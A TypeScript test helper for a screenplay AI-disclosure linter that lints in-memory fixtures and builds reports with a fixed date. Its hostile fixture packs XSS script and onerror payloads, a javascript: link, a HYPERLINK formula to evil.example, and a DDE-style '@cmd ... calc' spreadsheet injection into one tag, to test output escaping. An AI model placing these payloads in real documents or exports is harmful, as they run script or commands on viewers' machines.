// Shared by the report tests: a project linted in memory (the real parsers and rules, no disk),
// the report built from it with a fixed date, and a hostile tag whose values try every injection.

import * as path from 'node:path';
import { fileURLToPath } from 'node:url';
import { formatForPath, lintText } from '../../server/src/core/lint.js';
import { loadBuiltinRules } from '../../server/src/core/rules.js';
import { buildReport, type Report } from '../../server/src/core/report/model.js';
import type { ProjectResult } from '../../server/src/core/project.js';

export const repo = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
export const ROOT = path.join(repo, 'test/fixtures/report/in-memory');
export const FIXED_DATE = new Date('2025-06-02T09:30:00Z');

/** Lints `files` (name -> text) as one project rooted at ROOT. */
export function lintProject(files: Record<string, string>): ProjectResult {
  return {
    files: Object.entries(files)
      .map(([name, text]) => {
        const result = lintText(text, formatForPath(name)!, {});
        return { path: path.join(ROOT, name), kind: 'document' as const, genre: result.genre, guidelines: result.guidelines, result, findings: result.findings };
      })
      .sort((a, b) => (a.path < b.path ? -1 : 1)),
    missing: [],
    unreadable: [],
  };
}

export function reportOf(files: Record<string, string>, projectName = 'The Lantern Road'): Report {
  return buildReport(lintProject(files), { root: ROOT, generatedAt: FIXED_DATE, toolVersion: '0.1.0', projectName, rules: loadBuiltinRules() });
}

export const SCRIPT_PAYLOAD = '<script>alert(1)</script>';
export const IMG_PAYLOAD = '<img src=x onerror=alert(1)>';
export const FORMULA_PAYLOAD = '=HYPERLINK("http://evil.example/?q=1","click")';

/** A true-crime screenplay whose one tag carries script, markup, formulas, links and table breakers. */
export const HOSTILE_FOUNTAIN = `Title: ${'Pan <b>Case</b>'}
Genre: true-crime

INT. LIVING ROOM - NIGHT

A photo of the family on the mantel. [[ai: image.generated; tool: "${SCRIPT_PAYLOAD}"; prompt: "${IMG_PAYLOAD} | col [x](javascript:alert(1)) https://evil.example www.evil.example someone@evil.example @octocat $x$"; source: ${FORMULA_PAYLOAD}; subject: Mara Quinn; depicts: real-person; realism: photoreal; presented-as: archival; stage: final; disclosure: none; consent: +SUM(1,2); approval: -2+3; reviewed-by: @cmd|' /C calc'!A0; id: LR-1]]

INT. KITCHEN - NIGHT

[[ai: audio.music; tool: Suno v4.5; stage: final; disclosure: credits; approval: NFX-1; reviewed-by: Tomasz]]
`;

/** Markdown edit notes: commas, quotes and line breaks in values, an enhanced use, a pending approval. */
export const NOTES_MD = `---
title: Ep 101 notes
genre: true-crime
---

# Act One

## Interviews

<!-- ai: text.transcription; tool: Descript 6, "pro"; reviewed-by: Aisha Brannock; stage: final; id: LR-2 -->

<!-- ai: video.enhanced; tool: Topaz Video AI 5; source: "KPEL-TV news,
15 Nov 1998"; source-rights: licensed; timecode: 00:07:40:00-00:08:55:00; stage: final; approval: pending; reviewed-by: Mo; id: LR-3 -->
`;

export const CLEAN_FOUNTAIN = `Title: Ideas
Genre: drama

INT. WRITERS ROOM - DAY

The writers argue.
`;
